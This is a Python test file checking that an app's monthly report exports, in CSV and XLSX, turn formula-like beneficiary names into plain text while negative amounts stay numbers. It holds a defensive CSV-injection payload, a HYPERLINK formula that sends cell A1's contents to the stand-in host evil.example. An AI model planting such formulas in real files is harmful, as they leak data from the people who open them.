"""The report's CSV and XLSX never hold a live formula: a KPM named like one is text in both,
while negative amounts stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

from openpyxl import load_workbook

from kube import services
from kube.report import monthly_report
from kube.report.files import tidy_rows
from tests.factories import card_key, make_beneficiary, make_token

MONTH = "2026-10"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'


def test_a_kpm_named_like_a_formula_is_text_in_the_report_files(client, app, db, month):
    with db.unit_of_work() as s:
        kpm = make_beneficiary(s, card_key(app), name=HYPERLINK, village="@Desa")
        services.record_expense(s, date(2026, 10, 20), "rent", 90_000_000)  # a loss
        client.token = make_token(s, "manager")
    with db.unit_of_work(write=False) as s:
        report = monthly_report(s, MONTH)
    negatives = {(section, item): value for section, item, value in tidy_rows(report)
                 if isinstance(value, int | float) and value < 0}
    assert ("profit", "net_profit") in negatives
    text = client.get(f"/api/v1/reports/monthly/{MONTH}.csv").get_data().decode("utf-8-sig")
    values = {(s, i): v for s, i, v in list(csv.reader(io.StringIO(text)))[1:]}
    assert values[("bpnt", f"not_served.{kpm.id}.name")] == "'" + HYPERLINK
    assert values[("bpnt", f"not_served.{kpm.id}.village")] == "'@Desa"
    for key, value in negatives.items():
        assert values[key] == str(value), key
    book = load_workbook(io.BytesIO(client.get(f"/api/v1/reports/monthly/{MONTH}.xlsx").data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == HYPERLINK and c.data_type == "s" for c in cells)
    assert any(isinstance(c.value, int) and c.value < 0 for c in cells)
